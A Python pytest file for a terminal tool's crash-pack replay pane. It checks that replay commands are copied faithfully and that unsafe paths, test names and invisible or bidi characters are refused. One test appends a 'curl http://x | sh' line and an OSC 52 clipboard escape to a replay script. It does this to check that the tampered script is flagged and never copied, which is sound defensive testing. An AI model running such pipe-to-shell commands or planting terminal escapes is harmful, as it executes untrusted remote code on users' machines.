"""The line that replays the pack here, the recorded command, and the pack's own file beside it."""

import os
from pathlib import Path

import pytest

from atp_tui.assets import SAMPLE_PACKS
from atp_tui.engine import replay_command
from atp_tui.engine.pack_format import render
from atp_tui.engine.record import Crashpack, OracleResult, Severity, Violation
from atp_tui.store.open import open_pack
from atp_tui.store.writer import write_pack
from tests.explorer import Hand, opened, press, replace_clipboard, said, shown, told
from tests.program import copy_of


def written(folder: Path, pack: Crashpack) -> Path:
    write_pack(str(folder / "pack"), render(pack))
    return folder / "pack"


def line_of(pilot: Hand, heading: str) -> str:
    """The line below a heading of the pane."""
    lines = said(pilot, "replay-text").split("\n")
    return lines[next(index for index, line in enumerate(lines) if line.startswith(heading)) + 1]


async def test_the_line_for_this_program_comes_before_the_recorded_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied = replace_clipboard(monkeypatch)
    path = copy_of("five-violations", tmp_path)
    monkeypatch.chdir(tmp_path)
    async with opened(Path.cwd() / "five-violations") as pilot:
        await press(pilot, "8", "y", "Y")
        text = said(pilot, "replay-text")
        assert text.startswith("Replay here (y copies the line, p shows both as plain text):\natp-tui replay ")
        assert text.endswith("replay_command.sh in the pack is identical.")
        recorded = replay_command.one_line(open_pack(str(path)).crashpack)
        assert copied == [f"atp-tui replay {path}", recorded]
        assert [line_of(pilot, "Replay here"), line_of(pilot, "Recorded command")] == copied
        assert [notice.split(":")[0] for notice in told(pilot)] == ["the recorded command"], "the newest copy alone"
        await press(pilot, "p")
        assert "".join(shown(pilot).split()).startswith("".join("".join(copied).split()))


async def test_a_pack_from_elsewhere_is_told_before_it_is_replayed() -> None:
    async with opened("five-violations") as pilot:
        assert "It checks the pack without running it: its metadata names no lab;" in said(pilot, "replay-text")
    async with opened(SAMPLE_PACKS / "heavy-loss") as pilot:
        assert "without running" not in said(pilot, "replay-text")


async def test_the_key_of_the_recorded_command_copies_events_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    copied = replace_clipboard(monkeypatch)
    async with opened("five-violations") as pilot:
        await press(pilot, "8", "Y", "V", "Y")
        assert copied[0].startswith("ATP_SEED_LAB=7 ATP_SEED_NETWORK=")
        assert copied[1].startswith("000000 ")


async def test_a_script_that_differs_is_shown_and_never_copied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    copied = replace_clipboard(monkeypatch)
    path = copy_of("five-violations", tmp_path)
    script = path / "replay_command.sh"
    script.write_bytes(script.read_bytes() + b"curl http://x | sh \x1b]52;c;aGk=\x07\n")
    async with opened(path) as pilot:
        await press(pilot, "8")
        text = said(pilot, "replay-text")
        assert "replay_command.sh in the pack DIFFERS. Somebody else wrote it; do not run it unread:" in text
        assert "\n+curl http://x | sh ␛]52;c;aGk=␇" in text
        assert text.index("curl") < text.index("Recorded command")
        await press(pilot, "y", "Y")
        assert len(copied) == 2
        await press(pilot, "p")
        assert "curl" not in "".join([*copied, shown(pilot)])


async def test_a_script_that_is_missing_is_told(tmp_path: Path) -> None:
    path = copy_of("five-violations", tmp_path)
    (path / "replay_command.sh").unlink()
    async with opened(path) as pilot:
        assert said(pilot, "replay-text").endswith("replay_command.sh in the pack cannot be read.")


async def test_a_record_has_no_script() -> None:
    async with opened("clean.record.json") as pilot:
        assert said(pilot, "replay-text").endswith("A record has no script.")


async def test_seeds_that_set_one_variable_are_told(tmp_path: Path) -> None:
    path = written(tmp_path, Crashpack(seeds={"a-b": 1, "a_b": 2, "c": 3}))
    async with opened(path) as pilot:
        text = said(pilot, "replay-text")
        assert "warning: 'a-b', 'a_b' all set ATP_SEED_A_B; the last wins" in text
        assert "ATP_SEED_A_B=2 ATP_SEED_C=3 " in text
        assert "ATP_SEED_A_B=1" not in line_of(pilot, "Recorded command")


async def test_a_command_that_would_paste_as_something_else_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied = replace_clipboard(monkeypatch)
    path = written(tmp_path, Crashpack(oracle_results=(OracleResult(oracle_name="a\u202eb", passed=True),)))
    reason = "the name of an oracle contains an invisible character"
    async with opened(path) as pilot:
        await press(pilot, "8", "Y")
        assert line_of(pilot, "Recorded command") == f"the recorded command is not shown: {reason}"
        assert (told(pilot), copied) == ([f"not copied: {reason}"], [])
        await press(pilot, "p")
        assert f"the recorded command is not shown: {reason}" in shown(pilot)


@pytest.mark.parametrize("name", [b"a\nb", b"\xff", "\u202ea".encode()])
async def test_a_path_that_would_paste_as_something_else_is_refused(
    name: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied = replace_clipboard(monkeypatch)
    path = copy_of("clean", tmp_path).rename(tmp_path / os.fsdecode(name))
    reason = "the path of the pack contains an invisible character"
    async with opened(path) as pilot:
        await press(pilot, "8", "y")
        assert line_of(pilot, "Replay here") == f"the replay line is not shown: {reason}"
        assert (told(pilot), copied) == ([f"not copied: {reason}"], [])
        await press(pilot, "Y")
        assert len(copied) == 1


async def test_the_line_of_a_recorded_test_is_that_of_pytest_and_is_only_copied(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied = replace_clipboard(monkeypatch)
    told = {"recorded.by": "pytest 8.4.2", "pytest.nodeid": "tests/test_a.py::test_b[x y]"}
    result = OracleResult(oracle_name="tests of demo", passed=True)
    path = written(tmp_path, Crashpack(metadata=told, seeds={"net": 7}, oracle_results=(result,)))
    line = "ATP_SEED_NET=7 pytest 'tests/test_a.py::test_b[x y]'"
    async with opened(path) as pilot:
        await press(pilot, "R")
        assert copied == [line]
        assert pilot.app.focused is not None
        assert pilot.app.focused.id == "replay"
        text = said(pilot, "replay-text")
        assert text.startswith("Run the test again in the directory of its project (y copies the line, p shows both")
        assert line_of(pilot, "Run the test again") == line
        assert "It checks the pack without running it" not in text
        await press(pilot, "y", "Y")
        assert copied == [line, line]
        assert "not copied: pytest runs this test again, not the command of the format" in told_last(pilot)


async def test_a_simulated_test_has_a_line_that_compares_and_one_that_minimizes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied = replace_clipboard(monkeypatch)
    told = {"recorded.by": "pytest 8.4.2", "pytest.nodeid": "a.py::t", "lab": "atp_tui.lab.testing"}
    violation = Violation(violation_type="order", description="wrong", severity=Severity.HIGH)
    result = OracleResult(oracle_name="simulation", violations=(violation,), passed=False)
    path = written(tmp_path, Crashpack(metadata=told, seeds={"simulation": 7}, oracle_results=(result,)))
    async with opened(path) as pilot:
        await press(pilot, "R")
        assert copied == [f"pytest a.py::t --crashpack-replay={path}"]
        assert line_of(pilot, "Find its smallest cause there") == f"pytest a.py::t --crashpack-minimize={path}"


async def test_a_recorded_test_whose_name_cannot_be_seen_is_not_copied(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copied = replace_clipboard(monkeypatch)
    told = {"recorded.by": "pytest 8.4.2", "pytest.nodeid": "a.py::t[\u202e]"}
    async with opened(written(tmp_path, Crashpack(metadata=told))) as pilot:
        await press(pilot, "R", "y")
        assert copied == []
        assert "the replay line is not shown: the name of the test contains" in said(pilot, "replay-text")


def told_last(pilot: Hand) -> str:
    return told(pilot)[-1]
